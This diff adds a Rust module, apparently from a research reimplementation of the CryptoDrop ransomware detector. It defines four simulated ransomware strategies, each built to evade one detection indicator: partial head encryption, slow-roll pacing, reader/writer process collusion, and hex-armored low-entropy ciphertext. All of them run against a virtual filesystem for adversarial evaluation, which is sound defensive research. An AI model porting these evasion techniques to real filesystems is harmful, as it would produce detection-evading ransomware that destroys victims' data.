@@ -1,0 +1,361 @@
+//! Evasive attacker strategies: each starves one CryptoDrop indicator.
+//!
+//! Every strategy is a [`Workload`], so it runs through the same
+//! process-attributed filesystem operations as the paper's sample set and
+//! is scored by exactly the same filter. The interesting question per
+//! strategy is *which* indicator it denies the detector and what that
+//! costs in files lost before suspension (experiments study
+//! `adversarial`, DESIGN.md §15).
+
+use cryptodrop_benign::helpers::{overwrite_in_place, read_whole};
+use cryptodrop_malware::cipher::{derive_key, ChaCha20, Cipher};
+use cryptodrop_malware::{plan, TraversalOrder};
+use cryptodrop_vfs::{
+    OpenOptions, ProcessId, Vfs, VfsError, VfsResult, VPath, Workload, WorkloadCtx,
+    WorkloadOutcome,
+};
+
+/// I/O chunk size shared by all strategies.
+const CHUNK: usize = 16 * 1024;
+
+/// Builds the deterministic per-run stream cipher every strategy uses.
+/// ChaCha20 preserves length, so in-place overwrites need no truncation.
+fn stream_cipher(seed: u64) -> ChaCha20 {
+    ChaCha20::new(derive_key(seed), derive_key(seed ^ 0xAD5E_C0DE))
+}
+
+/// Clears the read-only attribute when it would block an in-place write,
+/// like all but one of the paper's samples (§V-C).
+fn ensure_writable(fs: &mut Vfs, pid: ProcessId, path: &VPath) -> VfsResult<()> {
+    match fs.metadata(pid, path) {
+        Ok(m) if m.read_only => fs.set_read_only(pid, path, false),
+        Ok(_) => Ok(()),
+        Err(e) => Err(e),
+    }
+}
+
+/// Walks the protected tree with the reader pid and returns the victim
+/// paths, translating suspension into an outcome the caller can return.
+fn victim_paths(
+    fs: &mut Vfs,
+    pid: ProcessId,
+    root: &VPath,
+    out: &mut WorkloadOutcome,
+) -> Option<Vec<VPath>> {
+    match plan(fs, pid, root, TraversalOrder::DepthFirstPreOrder, None) {
+        Ok(targets) => Some(targets.into_iter().map(|t| t.path).collect()),
+        Err(VfsError::ProcessSuspended(_)) => {
+            out.suspended = true;
+            None
+        }
+        Err(_) => Some(Vec::new()),
+    }
+}
+
+/// LockBit-style partial encryption: only the first
+/// [`head_bytes`](Self::head_bytes) of every file are overwritten with
+/// ciphertext.
+///
+/// The magic bytes die (type change fires) and the head is high-entropy
+/// (entropy delta fires), but the untouched tail keeps the similarity
+/// indicator matching on all but the smallest files — so the union
+/// indication never completes and the score must grind to the full
+/// non-union threshold.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PartialEncryptor {
+    /// Bytes encrypted at the head of each victim (default 4 KiB).
+    pub head_bytes: usize,
+    /// Stop after this many files (`None` = the whole tree).
+    pub max_files: Option<usize>,
+}
+
+impl Default for PartialEncryptor {
+    fn default() -> Self {
+        Self {
+            head_bytes: 4096,
+            max_files: None,
+        }
+    }
+}
+
+impl PartialEncryptor {
+    fn hit(
+        &self,
+        fs: &mut Vfs,
+        pid: ProcessId,
+        path: &VPath,
+        cipher: &dyn Cipher,
+    ) -> VfsResult<()> {
+        ensure_writable(fs, pid, path)?;
+        // Never consume more than a quarter of the file, so the surviving
+        // tail keeps sdhash similarity far above the match threshold.
+        // Files under sdhash's 512-byte digest floor can be taken whole —
+        // the similarity indicator abstains on them anyway.
+        let len = fs.metadata(pid, path)?.len as usize;
+        let take = if len < 512 {
+            self.head_bytes
+        } else {
+            self.head_bytes.min(len / 4)
+        };
+        let h = fs.open(pid, path, OpenOptions::modify())?;
+        let result = (|| {
+            let head = fs.read(pid, h, take.max(1))?;
+            if head.is_empty() {
+                return Ok(());
+            }
+            fs.seek(pid, h, 0)?;
+            fs.write(pid, h, &cipher.encrypt(&head)).map(|_| ())
+        })();
+        let close = fs.close(pid, h);
+        result?;
+        close
+    }
+}
+
+impl Workload for PartialEncryptor {
+    fn name(&self) -> String {
+        format!("partial-encryptor (first {} KiB)", self.head_bytes / 1024)
+    }
+
+    fn pid_plan(&self) -> Vec<String> {
+        vec!["partial-encryptor.exe".into()]
+    }
+
+    fn drive(&self, fs: &mut Vfs, ctx: &WorkloadCtx) -> WorkloadOutcome {
+        let pid = ctx.pid();
+        let cipher = stream_cipher(ctx.seed);
+        let mut out = WorkloadOutcome::default();
+        let Some(paths) = victim_paths(fs, pid, &ctx.root, &mut out) else {
+            return out;
+        };
+        let limit = self.max_files.unwrap_or(usize::MAX);
+        for path in paths.iter().take(limit) {
+            match self.hit(fs, pid, path, &cipher) {
+                Ok(()) => out.files_touched += 1,
+                Err(VfsError::ProcessSuspended(_)) => {
+                    out.suspended = true;
+                    return out;
+                }
+                Err(_) => out.read_only_skipped += 1,
+            }
+        }
+        out.completed = true;
+        out
+    }
+}
+
+/// Full in-place encryption spread over hours of simulated clock: the
+/// strategy pauses [`pause_nanos`](Self::pause_nanos) between victims.
+///
+/// The reputation score is cumulative and time-blind, so CryptoDrop's
+/// detection is unmoved — but any defense reasoning about *rates*
+/// (bursts, I/O throttling budgets) sees a process writing less than one
+/// file a minute. The pause advances the shared
+/// [`ClockHandle`](cryptodrop_vfs::ClockHandle), which is why the
+/// `Workload` context carries a typed clock instead of raw nanos.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SlowRoll {
+    /// Simulated pause between victims (default 90 s — an 800-file corpus
+    /// stretches the attack over 20 hours).
+    pub pause_nanos: u64,
+    /// Stop after this many files (`None` = the whole tree).
+    pub max_files: Option<usize>,
+}
+
+impl Default for SlowRoll {
+    fn default() -> Self {
+        Self {
+            pause_nanos: 90_000_000_000,
+            max_files: None,
+        }
+    }
+}
+
+impl Workload for SlowRoll {
+    fn name(&self) -> String {
+        format!("slow-roll ({} s/file)", self.pause_nanos / 1_000_000_000)
+    }
+
+    fn pid_plan(&self) -> Vec<String> {
+        vec!["slow-roll.exe".into()]
+    }
+
+    fn drive(&self, fs: &mut Vfs, ctx: &WorkloadCtx) -> WorkloadOutcome {
+        let pid = ctx.pid();
+        let cipher = stream_cipher(ctx.seed);
+        let mut out = WorkloadOutcome::default();
+        let Some(paths) = victim_paths(fs, pid, &ctx.root, &mut out) else {
+            return out;
+        };
+        let limit = self.max_files.unwrap_or(usize::MAX);
+        for path in paths.iter().take(limit) {
+            let result = ensure_writable(fs, pid, path)
+                .and_then(|()| read_whole(fs, pid, path, CHUNK))
+                .and_then(|data| overwrite_in_place(fs, pid, path, &cipher.encrypt(&data), CHUNK));
+            match result {
+                Ok(()) => out.files_touched += 1,
+                Err(VfsError::ProcessSuspended(_)) => {
+                    out.suspended = true;
+                    return out;
+                }
+                Err(_) => out.read_only_skipped += 1,
+            }
+            ctx.clock.advance(self.pause_nanos);
+        }
+        out.completed = true;
+        out
+    }
+}
+
+/// Multi-process collusion: a reader pid and a writer pid split the
+/// attack so neither accumulates a complete indicator set.
+///
+/// The writer never reads, so its per-process entropy-delta tracker never
+/// has a read-side mean and can never fire; without all three primaries
+/// the union indication is off the table. The reader never writes, so it
+/// caps out at funneling points. Per-process reputation was the paper's
+/// design choice (§IV-B) — this strategy is the cost of that choice.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Collusion {
+    /// Stop after this many files (`None` = the whole tree). A bounded
+    /// run that keeps the writer under the non-union threshold completes
+    /// undetected — the regression case `tests/adversarial.rs` pins.
+    pub max_files: Option<usize>,
+    /// When `false`, the same plan runs under a single pid — the control
+    /// arm showing the split is what defeats the union indication.
+    pub colluding: bool,
+}
+
+impl Default for Collusion {
+    fn default() -> Self {
+        Self {
+            max_files: None,
+            colluding: true,
+        }
+    }
+}
+
+impl Collusion {
+    /// A bounded colluding run: stops after `max_files` victims.
+    pub fn bounded(max_files: usize) -> Self {
+        Self {
+            max_files: Some(max_files),
+            ..Self::default()
+        }
+    }
+
+    /// The single-process control arm with the same bound.
+    pub fn solo(max_files: usize) -> Self {
+        Self {
+            max_files: Some(max_files),
+            colluding: false,
+        }
+    }
+}
+
+impl Workload for Collusion {
+    fn name(&self) -> String {
+        if self.colluding {
+            "collusion (reader pid + writer pid)".into()
+        } else {
+            "collusion control (single pid)".into()
+        }
+    }
+
+    fn pid_plan(&self) -> Vec<String> {
+        if self.colluding {
+            vec!["collusion-reader.exe".into(), "collusion-writer.exe".into()]
+        } else {
+            vec!["collusion-solo.exe".into()]
+        }
+    }
+
+    fn drive(&self, fs: &mut Vfs, ctx: &WorkloadCtx) -> WorkloadOutcome {
+        let reader = ctx.pids[0];
+        let writer = *ctx.pids.last().expect("pid plan is non-empty");
+        let cipher = stream_cipher(ctx.seed);
+        let mut out = WorkloadOutcome::default();
+        let Some(paths) = victim_paths(fs, reader, &ctx.root, &mut out) else {
+            return out;
+        };
+        let limit = self.max_files.unwrap_or(usize::MAX);
+        for path in paths.iter().take(limit) {
+            let result = read_whole(fs, reader, path, CHUNK).and_then(|data| {
+                ensure_writable(fs, writer, path)?;
+                overwrite_in_place(fs, writer, path, &cipher.encrypt(&data), CHUNK)
+            });
+            match result {
+                Ok(()) => out.files_touched += 1,
+                Err(VfsError::ProcessSuspended(_)) => {
+                    out.suspended = true;
+                    return out;
+                }
+                Err(_) => out.read_only_skipped += 1,
+            }
+        }
+        out.completed = true;
+        out
+    }
+}
+
+/// Encrypt-then-encode: ciphertext leaves the process hex-armored at a
+/// flat 4.0 bits/byte.
+///
+/// Most documents sit between 4 and 8 bits/byte, so the write-side
+/// entropy mean lands *below* the read-side mean and the Δe ≥ 0.1 check
+/// can never pass. Text victims even keep their sniffed type (hex is
+/// printable ASCII); the detector is left with similarity and — for
+/// binary victims — type changes.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct LowEntropyEncoder {
+    /// Stop after this many files (`None` = the whole tree).
+    pub max_files: Option<usize>,
+}
+
+/// Hex-armors a buffer: doubles the length, caps entropy at 4 bits/byte.
+fn hex_armor(data: &[u8]) -> Vec<u8> {
+    const TABLE: &[u8; 16] = b"0123456789abcdef";
+    let mut out = Vec::with_capacity(data.len() * 2);
+    for b in data {
+        out.push(TABLE[(b >> 4) as usize]);
+        out.push(TABLE[(b & 0xF) as usize]);
+    }
+    out
+}
+
+impl Workload for LowEntropyEncoder {
+    fn name(&self) -> String {
+        "low-entropy encoder (hex-armored)".into()
+    }
+
+    fn pid_plan(&self) -> Vec<String> {
+        vec!["low-entropy-encoder.exe".into()]
+    }
+
+    fn drive(&self, fs: &mut Vfs, ctx: &WorkloadCtx) -> WorkloadOutcome {
+        let pid = ctx.pid();
+        let cipher = stream_cipher(ctx.seed);
+        let mut out = WorkloadOutcome::default();
+        let Some(paths) = victim_paths(fs, pid, &ctx.root, &mut out) else {
+            return out;
+        };
+        let limit = self.max_files.unwrap_or(usize::MAX);
+        for path in paths.iter().take(limit) {
+            let result = ensure_writable(fs, pid, path)
+                .and_then(|()| read_whole(fs, pid, path, CHUNK))
+                .and_then(|data| {
+                    overwrite_in_place(fs, pid, path, &hex_armor(&cipher.encrypt(&data)), CHUNK)
+                });
+            match result {
+                Ok(()) => out.files_touched += 1,
+                Err(VfsError::ProcessSuspended(_)) => {
+                    out.suspended = true;
+                    return out;
+                }
+                Err(_) => out.read_only_skipped += 1,
+            }
+        }
+        out.completed = true;
+        out
+    }
+}
